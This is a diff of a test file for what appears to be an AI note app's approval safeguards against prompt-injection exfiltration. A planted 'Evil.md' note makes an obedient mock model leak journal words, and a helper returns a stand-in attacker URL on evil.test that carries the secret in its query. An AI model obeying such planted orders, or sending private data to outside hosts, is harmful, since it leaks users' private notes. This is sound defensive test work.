@@ -1,8 +1,8 @@
 import { describe, expect, it } from 'vitest'
 import type { ApprovalAnswer, ApprovalRequest, BatchAnswer, ConsentLevel } from '../../src/core/approval/index.js'
+import { mediaTools } from '../../src/core/tools/built-in.js'
 import type { Tool, Web } from '../../src/core/tools/index.js'
-import { mediaTools } from '../../src/core/tools/media/index.js'
-import { howOften } from '../how-often.js'
+import { howOften } from '../runner/how-often.js'
 import { obedientModel } from './obedient-model.js'
 import { type Order, outboundAttacks, type Source, secret, sources } from './outbound-attacks.js'
 import { type Panel, type Played, playTurn } from './play.js'
@@ -44,7 +44,7 @@ async function play(
     dailyNotes: async () => ({ folder: '', format: 'YYYY-MM-DD' }),
     webSearch: { engine: 'searxng' as const, url: 'https://search.test' },
   }
-  // The page first: at `ask` and `edit` the person is asked for it, before anything private is there.
+  // The page first: at `ask` and `edit` the user is asked for it, before anything private is there.
   const steps = page ? [...first, readJournal] : [readJournal, ...first]
   const { model } = obedientModel('native', steps)
   const played = await playTurn(model, ask, {
@@ -97,13 +97,13 @@ function fullAddress(orders: readonly Order[]): string {
   return '//evil.test/p?d=zebrafish%20moonlight'
 }
 
-describe('the words of a request', () => {
+describe('the words of an outbound request', () => {
   const wordsOf = async (orders: Order[]) => {
     const { requests } = await play(sources['a note'](orders), 'auto', 'no')
     return requests[0].words
   }
 
-  it('are shown with the note they stand in, and those that stand nowhere', async () => {
+  it('are shown with the note they come from, or as from nowhere', async () => {
     const words = await wordsOf(outboundAttacks['request in the query, plain'])
     const notes = [{ path: 'Evil.md' }, { path: 'Journal.md' }]
     expect(words).toContainEqual({ word: 'zebrafish', from: 'note', notes })
@@ -117,7 +117,7 @@ describe('the words of a request', () => {
   })
 })
 
-describe('the same model', () => {
+describe('the model', () => {
   it.each(Object.entries(outboundAttacks))('really sends or writes where the person agrees: %s', async (_, orders) => {
     const { sent, changed } = await play(sources['a note'](orders), 'auto', 'yes')
     expect(sent.length > 0 || Object.values(changed).some(wouldLoad)).toBe(true)
@@ -125,7 +125,7 @@ describe('the same model', () => {
 
   const typed = (orders: Order[], ask: string): Source => ({ ...sources['a note'](orders), ask })
 
-  it('is not asked about what the person typed: an address, a search, an image', async () => {
+  it('needs no approval for text that the user typed: an address, a search, an image', async () => {
     const orders: Order[] = [
       { tool: 'web_fetch', input: { url: 'https://example.org/peas?year=2024' } },
       { tool: 'web_search', input: { query: 'when to sow peas' } },
@@ -140,7 +140,7 @@ describe('the same model', () => {
     for (const { asked } of [read, search]) expect(asked).toEqual([])
   })
 
-  it('is not asked where a rule says which tool may send where', async () => {
+  it('needs no approval if a rule allows the tool and the destination', async () => {
     const search = outboundAttacks['request in a search, plain']
     const page = outboundAttacks['request in the query, plain']
     expect((await play(sources['a note'](search), 'auto', 'no', ['allow: web_search'])).sent).toHaveLength(1)
